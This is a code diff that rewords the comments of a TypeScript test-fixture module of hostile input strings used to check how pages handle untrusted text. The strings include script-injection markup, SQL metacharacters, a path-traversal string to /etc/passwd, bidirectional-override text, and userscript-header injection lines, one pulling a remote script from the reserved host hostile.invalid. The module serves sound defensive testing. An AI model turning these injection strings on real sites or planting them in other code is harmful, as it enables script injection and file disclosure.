@@ -1,11 +1,11 @@
-/** What a hostile text does when something runs it; pages under test count the calls. */
+/** Function that a hostile text calls when it is executed; pages under test count the calls. */
 export const PLANTED = "hostileTextRan";
-/** Where a hostile text sends requests: a name that RFC 2606 keeps from ever existing. */
+/** Host that hostile texts send requests to: RFC 2606 reserves its name, so it never exists. */
 export const HOSTILE_HOST = "hostile.invalid";
 
 const run = `window.${PLANTED}=1`;
 
-/** Texts that become code wherever one kind of document takes them for its own language. */
+/** Texts that become code when a document interprets them as its own markup. */
 export const markupVectors = [
 	`<script>${run}</script>`,
 	`</script><script>${run}</script>`,
@@ -59,7 +59,7 @@ export const addressVectors = [
 	"https://example.org:99999/",
 ] as const;
 
-/** Metacharacters of what stands between the page and the rows. */
+/** Metacharacters of the layers between the page and the database. */
 export const queryVectors = [
 	"'",
 	'"',
@@ -101,7 +101,7 @@ export const queryVectors = [
 	"../../../etc/passwd",
 ] as const;
 
-/** Letters that text boxes, databases and screens disagree about. */
+/** Characters that text boxes, databases and screens handle differently. */
 export const letterVectors = [
 	"مرحبا بالعالم",
 	"שלום \u202Egnirts\u202C",
@@ -131,7 +131,7 @@ export const letterVectors = [
 	"ＡＬＬ ｗｉｄｅ 全角文字",
 ] as const;
 
-/** Lines that would begin, end or extend the metadata of a userscript, a header or a log. */
+/** Lines that would start, end or extend the metadata of a userscript, a header or a log. */
 export const lineVectors = [
 	"x\n// @require https://hostile.invalid/x.js",
 	"x\r\n// ==/UserScript==\r\nalert(1)//",
